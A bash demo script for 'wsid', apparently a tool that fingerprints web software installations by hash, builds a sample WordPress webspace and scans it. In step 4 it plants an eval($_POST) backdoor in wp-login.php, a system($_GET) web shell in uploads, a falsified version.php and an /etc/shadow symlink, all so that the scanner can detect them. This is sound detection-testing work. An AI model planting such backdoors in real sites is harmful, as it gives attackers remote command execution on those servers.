#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
# The README's demo command: installs what is missing, builds wsid, builds the
# fingerprint index from the shipped sets, makes a sample webspace from Debian's
# real WordPress package, scans it, then makes a few real changes an attacker
# would make and scans again. Everything lives under $WSID_DEMO_DIR
# (default /var/tmp/wsid-demo); nothing else on the machine is touched.
set -eu
cd "$(dirname "$0")/.."
top=$(pwd)
if [ "${1:-}" != "--built" ]; then
	bash scripts/deps.sh build
	make -j"$(nproc)" all
fi
demo=${WSID_DEMO_DIR:-/var/tmp/wsid-demo}
db="$demo/wsid.db"
ctl="$top/build/wsidctl"
. scripts/fixtures.sh
mkdir -p "$demo"
step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "1. fingerprint index from $top/fingerprints"
"$ctl" --db "$db" index build --from "$top/fingerprints"
"$ctl" --db "$db" index stats

step "2. a sample webspace from Debian's wordpress package"
wp=$(fixture_tree wordpress)
rm -rf "$demo/webspace"
mkdir -p "$demo/webspace"
cp -a "$wp/." "$demo/webspace/blog/" 2>/dev/null || { mkdir -p "$demo/webspace/blog"; cp -a "$wp/." "$demo/webspace/blog/"; }
rm -f "$demo/webspace/blog/.complete"
mkdir -p "$demo/webspace/blog/wp-content/uploads/2024/05"
head -c 40000 /dev/urandom > "$demo/webspace/blog/wp-content/uploads/2024/05/holiday.jpg"
echo "webspace: $demo/webspace ($(find "$demo/webspace" -type f | wc -l) files)"

step "3. scan: what is installed there, by hashes only"
"$ctl" --db "$db" scan "$demo/webspace"

step "4. an attacker edits a core file, drops a web shell and lies in version.php"
echo '<?php /* injected */ @eval($_POST["x"]); ?>' >> "$demo/webspace/blog/wp-login.php"
printf '<?php @system($_GET["c"]);\n' > "$demo/webspace/blog/wp-content/uploads/2024/05/shell.php"
sed -i "s/^\$wp_version = .*/\$wp_version = '6.4.3';/" "$demo/webspace/blog/wp-includes/version.php"
ln -sf /etc/shadow "$demo/webspace/blog/wp-content/uploads/2024/05/passwords.txt"
echo "  edited wp-login.php, added uploads/2024/05/shell.php, version.php now claims 6.4.3,"
echo "  and a symlink to /etc/shadow (never followed)"

step "5. scan again"
"$ctl" --db "$db" scan "$demo/webspace"

step "6. the same as JSON (first installation, summary fields)"
"$ctl" --db "$db" scan --json "$demo/webspace" | python3 -c '
import json, sys
d = json.load(sys.stdin)
for t in d["scanned"]:
    for i in t["installations"]:
        print(json.dumps({k: i[k] for k in ("root", "product", "version", "confidence", "counts", "version_file_claims")}, indent=2))
        print("modified:", [f["path"] for f in i["files"]["modified"]][:5])
        print("added code:", [f["path"] for f in i["files"]["added"] if f["code"]][:5])
    print("skipped:", [(s["path"], s["kind"], s.get("target")) for s in t["skipped"]][:5])
'
echo
echo "demo files are in $demo (remove with: rm -rf $demo)"
